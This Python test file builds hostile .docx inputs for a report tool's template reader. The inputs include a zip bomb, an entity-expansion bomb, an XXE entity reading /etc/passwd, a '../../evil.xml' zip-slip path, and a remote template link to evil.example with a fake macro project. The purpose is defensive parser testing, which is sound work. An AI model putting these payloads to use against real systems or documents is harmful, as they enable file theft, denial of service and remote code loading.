"""Templates and reports in Word that are none, lie, reach out or blow up. Each stands as the template of a harmless workbook,
whose result is written all the same."""

from __future__ import annotations

import functools
import hashlib
import zipfile
from dataclasses import replace
from datetime import datetime
from io import BytesIO

from tests.hostile.build import Files, deflated, noise, ole, raw_zip, zeros, zipped
from xltool.word.own_template import own_template

FILES = Files()
_MAIN, _STYLES = "word/document.xml", "word/styles.xml"
_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@functools.cache
def _parts() -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(own_template("Rapport", "Nämnden", datetime(2024, 1, 1)))) as package:
        return {name: package.read(name) for name in package.namelist()}


def _with(more: dict[str, bytes]) -> bytes:
    return zipped({**_parts(), **more})


def _body(xml: bytes) -> bytes:
    return _with({_MAIN: b"<w:document %b><w:body>%b</w:body></w:document>" % (_W, xml)})


def _control(tag: bytes, inner: bytes = b"<w:p/>") -> bytes:
    properties = b'<w:sdtPr><w:tag w:val="xltool:%b"/></w:sdtPr>' % tag
    return b"<w:sdt>%b<w:sdtContent>%b</w:sdtContent></w:sdt>" % (properties, inner)


@FILES("0")
def docx_as_it_is() -> bytes:
    return zipped(_parts())


@FILES("3 XL714")
def docx_that_is_a_pdf() -> bytes:
    return b"%PDF-1.7\n"


@FILES("3 XL714")
def docx_that_is_empty() -> bytes:
    return b""


@FILES("3 XL714")
def docx_that_is_a_doc() -> bytes:
    return ole("WordDocument")


@FILES("3 XL714")
def docx_with_a_password() -> bytes:
    return ole("EncryptedPackage")


@FILES("3 XL121")
def docx_cut_in_half() -> bytes:
    data = zipped(_parts())
    return data[: len(data) // 2]


@FILES("3 XL122")
def docx_bomb() -> bytes:
    parts = [deflated(name, part) for name, part in _parts().items()]
    return raw_zip([*parts, replace(zeros(300_000_000), name=b"word/bomb.bin")])


@FILES("3 XL123")
def docx_with_entities() -> bytes:
    entities = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    return _with({_MAIN: entities + _parts()[_MAIN].partition(b"?>")[2]})


@FILES("3 XL123")
def docx_with_entities_in_its_styles() -> bytes:
    return _with({_STYLES: b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + _parts()[_STYLES]})


@FILES("3 XL123")
def docx_with_a_part_that_points_out() -> bytes:
    return _with({"../../evil.xml": b"<x/>"})


@FILES("3 XL714")
def docx_whose_main_part_is_missing() -> bytes:
    return zipped({name: part for name, part in _parts().items() if name != _MAIN})


@FILES("3 XL714")
def docx_whose_main_part_is_no_xml() -> bytes:
    return _with({_MAIN: noise(2_000)})


@FILES("3 XL714")
def docx_without_a_body() -> bytes:
    return _with({_MAIN: b"<w:document %b/>" % _W})


@FILES("0")
def docx_with_macros_and_links() -> bytes:
    relations = "word/_rels/document.xml.rels"
    link = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    return _with(
        {"word/vbaProject.bin": noise(500), relations: _parts()[relations].replace(b"</Relationships>", link)}
    )


@FILES("0")
def docx_nested_to_the_depth() -> bytes:
    return _body(b"<w:p><w:r>" * 3_000 + b"</w:r></w:p>" * 3_000 + _control(b"resultat"))


@FILES("0")
def docx_with_controls_in_each_other() -> bytes:
    inner = b"<w:p/>"
    for _ in range(150):
        inner = _control(b"resultat", inner)
    return _body(inner)


@FILES("0")
def docx_with_thousands_of_controls() -> bytes:
    texts = (hashlib.sha256(b"%d" % i).hexdigest().encode() for i in range(3_000))
    return _body(b"".join(_control(b"resultat", b"<w:p><w:r><w:t>%b</w:t></w:r></w:p>" % t) for t in texts))


@FILES("0")
def docx_with_a_tag_that_is_long_and_odd() -> bytes:
    return _body(_control(b"drift&quot;&lt;" * 2_000) + _control(b"") + _control(b"text {0} %s"))


@FILES("1 XL710")
def docx_with_a_memory_that_lies() -> bytes:
    properties = (
        b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties">'
        b'<property name="xltool:skriven" pid="2"/><property name="xltool:drift" pid="3"><x>a b c;;d</x></property></Properties>'
    )
    relations = _parts()["_rels/.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/custom-properties" Target="docProps/custom.xml"/></Relationships>',
    )
    return _with({"docProps/custom.xml": properties, "_rels/.rels": relations})
